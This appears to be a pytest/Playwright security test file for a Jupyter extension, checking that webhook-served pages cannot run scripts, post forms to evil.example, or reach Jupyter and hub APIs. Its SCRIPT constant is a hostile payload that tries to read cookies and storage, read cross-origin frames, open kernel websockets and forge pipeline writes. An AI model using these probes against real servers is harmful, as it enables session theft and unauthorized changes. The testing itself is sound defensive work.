"""Pages that pipelines answer, in a browser that is logged in to the Jupyter Server at the same address."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import httpx
import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.browser.chromium import Observed, observed_context
from tests.browser.lab import TOKEN, Lab

PATH = "global/app/demo/pipeline/page"
SCRIPT = """
document.title = 'ran';
const tried = {};
const attempt = async (name, work) => {
  try { tried[name] = 'got ' + JSON.stringify(await work()); } catch (error) { tried[name] = error.name; }
};
(async () => {
  const read = (address, more) => fetch(address, {credentials: 'include', ...more}).then((answer) => answer.text());
  const blind = (address, body) => fetch(address, {method: 'POST', mode: 'no-cors', credentials: 'include', body});
  await attempt('cookie', () => document.cookie);
  await attempt('storage', () => localStorage.length);
  await attempt('worker', () => navigator.serviceWorker.register(location.href));
  await attempt('own', () => read(location.href, {credentials: 'omit'}).then((text) => text.length > 0));
  await attempt('hub', () => read('/pfnb/api/v3/command/webhook.get'));
  await attempt('jupyter', () => read('/api/contents'));
  await attempt('kernels', () => new Promise((done, failed) => {
    const socket = new WebSocket(location.origin.replace('null', 'ws://') + 'ws://HOST/api/events/subscribe');
    socket.onopen = () => done('open');
    socket.onerror = () => failed(new DOMException('refused', 'Refused'));
  }));
  await attempt('frame', () => new Promise((done, failed) => {
    const frame = document.createElement('iframe');
    frame.src = '/lab';
    frame.onload = () => { try { done(frame.contentWindow.document.title); } catch (error) { failed(error); } };
    document.body.append(frame);
  }));
  await blind('/pfnb/api/v3/pipeline', 'pipeline: [{property.put: {path: global/app/demo/stolen, value: 1}}]');
  await blind('/api/contents', JSON.stringify({type: 'notebook'}));
  document.querySelector('#tried').textContent = JSON.stringify(tried);
})();
"""
FORM = "<form method=post><input name=mail value=ada@example.org><button>Send</button></form>"
STYLED = "<style>h1 {color: rgb(200, 0, 0)}</style><h1 id=tried>Sign up</h1>"


@dataclass(frozen=True)
class Site:
    """The webhook `url`, whose pipeline is set by `answer`, and a logged-in browser."""

    lab: Lab
    http: httpx.Client
    uuid: str
    url: str
    context: BrowserContext
    observed: Observed

    def answer(self, step: str, **settings: Any) -> None:
        self.command("webhook.put", uuid=self.uuid, **settings)
        text = f"pipeline:\n  - event.listen: {{key: webhook.page}}\n  - {step}"
        self.http.put(f"/api/v3/pipeline:{PATH}", content=text).raise_for_status()

    def command(self, name: str, **given: Any) -> Any:
        answer = self.http.post(f"/api/v3/command/{name}", params=given)
        answer.raise_for_status()
        return answer.json()

    def open(self) -> Page:
        page = self.context.new_page()
        page.goto(self.url)
        return page


@pytest.fixture
def site(lab: Lab) -> Iterator[Site]:
    context, observed = observed_context(lab.browser)
    page = context.new_page()
    page.goto(f"{lab.server.url}tree?token={TOKEN}")
    page.close()
    headers = {"Authorization": f"token {TOKEN}"}
    with httpx.Client(base_url=lab.server.hub_url, headers=headers, trust_env=False, timeout=30) as http:
        given = {"eventKey": "webhook.page", "payloadType": "raw", "answer": "body"}
        made = http.post("/api/v3/command/webhook.put", params=given).json()
        yield Site(lab, http, made["uuid"], made["pathUrl"], context, observed)
        http.post("/api/v3/command/webhook.delete", params={"uuid": made["uuid"]}).raise_for_status()
        http.delete(f"/api/v3/pipeline:{PATH}").raise_for_status()
    context.close()


def page_of(html: str, **more: Any) -> str:
    """The step that answers with this page."""
    given = {"headers": {"Content-Type": "text/html; charset=utf-8"}, "body": html, **more}
    return f"http.response.set: {json.dumps(given)}"


def test_a_page_has_its_style_and_its_form_but_no_script(site: Site) -> None:
    tries = """<script>document.title = 'ran'</script><img src=x onerror="document.title = 'ran'">"""
    site.answer(page_of(f"{STYLED}{FORM}{tries}", cookies={"mine": 1}))
    page = site.open()
    assert page.locator("h1").evaluate("one => getComputedStyle(one).color") == "rgb(200, 0, 0)"
    # A form of a page without an origin is that of a foreign page, to which a cookie with SameSite=Lax does not belong.
    site.answer("""body.set: {value: "Thank you, #{body.payload.mail} #{body.headers.containsKey('cookie')}"}""")
    page.get_by_role("button").click()
    expect(page.locator("body")).to_have_text("Thank you, ada@example.org false")
    assert page.title() == ""
    assert site.observed.outside == []


def test_a_form_of_an_inert_page_cannot_send_what_is_typed_to_somebody_else(site: Site) -> None:
    site.answer(page_of(FORM.replace("<form", "<form action='https://evil.example/'")))
    page = site.open()
    with page.expect_console_message(lambda message: "form-action" in message.text):
        page.get_by_role("button").evaluate("one => one.click()")
    assert (page.url, site.observed.outside) == (site.url, [])


def test_a_script_of_a_page_with_allow_html_runs_and_reaches_nothing_of_jupyter_and_the_hub(site: Site) -> None:
    host = site.url.split("/")[2]
    script = SCRIPT.replace("location.origin.replace('null', 'ws://') + 'ws://HOST", f"'ws://{host}")
    site.answer(page_of(f"{STYLED}<script>{script}</script>"), allowHtml=True)
    before = {
        one["name"]
        for one in httpx.get(f"{site.lab.server.url}api/contents", headers=site.http.headers).json()["content"]
    }
    page = site.open()
    expect(page.locator("#tried")).to_contain_text("{", timeout=15_000)
    assert page.title() == "ran"
    tried = json.loads(page.locator("#tried").inner_text())
    assert tried == {
        "cookie": "SecurityError",
        "storage": "SecurityError",
        "worker": "SecurityError",
        "own": "got true",
        "hub": "TypeError",
        "jupyter": "TypeError",
        "kernels": "Refused",
        "frame": "SecurityError",
    }
    assert site.command("property.list", pattern="global/app/demo/stolen") == []
    after = {
        one["name"]
        for one in httpx.get(f"{site.lab.server.url}api/contents", headers=site.http.headers).json()["content"]
    }
    assert before == after


def test_a_webhooks_cookies_come_back_to_it_alone_and_jupyters_stay_out_of_the_event(site: Site) -> None:
    jupyters = {one["name"]: one["value"] for one in site.context.cookies()}
    assert "_xsrf" in jupyters
    assert len(jupyters) > 1
    site.answer(page_of("set", cookies={"mine": 1, **dict.fromkeys(jupyters, "forged")}))
    page = site.open()
    path = "/" + site.url.split("/", 3)[3]
    made = {one["name"]: one for one in site.context.cookies() if one["value"] in ("1", "forged")}
    assert made.keys() == {"mine", *jupyters}
    assert {(one["path"], one["httpOnly"], one["sameSite"]) for one in made.values()} == {(path, True, "Lax")}

    site.answer("body.set: {value: '#{body.headers.cookie}'}")
    page.reload()
    expect(page.locator("body")).to_have_text("mine=1")
    page.goto(f"{site.lab.server.url}tree")
    answered = page.evaluate(
        """async () => {
          const token = document.cookie.match(/_xsrf=([^;]*)/)[1];
          const made = await fetch('/api/contents', {method: 'POST', headers: {'X-XSRFToken': token}, body: '{"type": "file"}'});
          return [token, made.status, (await made.json()).path];
        }"""
    )
    assert answered[:2] == [jupyters["_xsrf"], 201]
    (site.lab.root / answered[2]).unlink()
